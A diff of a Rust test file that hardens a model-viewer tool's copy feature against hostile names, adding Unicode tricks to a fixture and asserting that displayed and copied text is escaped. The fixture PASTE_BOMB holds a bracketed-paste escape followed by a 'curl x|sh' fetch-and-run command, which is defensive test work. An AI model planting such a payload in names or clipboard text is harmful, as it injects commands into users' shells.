@@ -119,8 +119,9 @@ fn y_copies_the_selected_name_and_says_so_once() {
 }
 
 /// A name that runs a command if pasted raw into a shell: it ends a bracketed paste and
-/// holds newlines, then a C1 CSI and a right-to-left override.
-const PASTE_BOMB: &str = "w\x1b[201~\r\ncurl x|sh\n\u{9b}2J\u{202e}";
+/// holds newlines, then a C1 CSI, a right-to-left override, a zero-width space, a line
+/// separator and a tag character.
+const PASTE_BOMB: &str = "w\x1b[201~\r\ncurl x|sh\n\u{9b}2J\u{202e}\u{200b}\u{2028}\u{e0041}";
 
 /// An ONNX model whose node, operator type and initializer are all named [`PASTE_BOMB`].
 fn paste_bomb_model() -> rtenx::source::ModelFile {
@@ -165,9 +166,13 @@ fn y_copies_a_hostile_name_escaped_from_every_tab() {
     for (tab, keys) in cases {
         let mut a = App::new(rtenx::analyze_file(&file), tab);
         press(&mut a, keys);
-        screen(&mut a);
-        press(&mut a, "y");
         let what = format!("{tab:?} after {keys:?}");
+        let shown = screen(&mut a);
+        let raw = shown
+            .lines()
+            .any(|l| l.contains(rtenx::escape::needs_escape));
+        assert!(!raw, "{what}: {shown}");
+        press(&mut a, "y");
         let copied = a
             .copied
             .clone()
@@ -187,6 +192,10 @@ fn y_copies_a_hostile_name_escaped_from_every_tab() {
         let pasted = String::from_utf8(pasted).unwrap();
         // ESC, CR, LF, DEL and C1 controls are all `is_control`.
         assert!(!pasted.contains(char::is_control), "{what}: {pasted:?}");
+        assert!(
+            !pasted.contains(rtenx::escape::needs_escape),
+            "{what}: {pasted:?}"
+        );
         assert_eq!(pasted, *copied, "{what}");
     }
 }
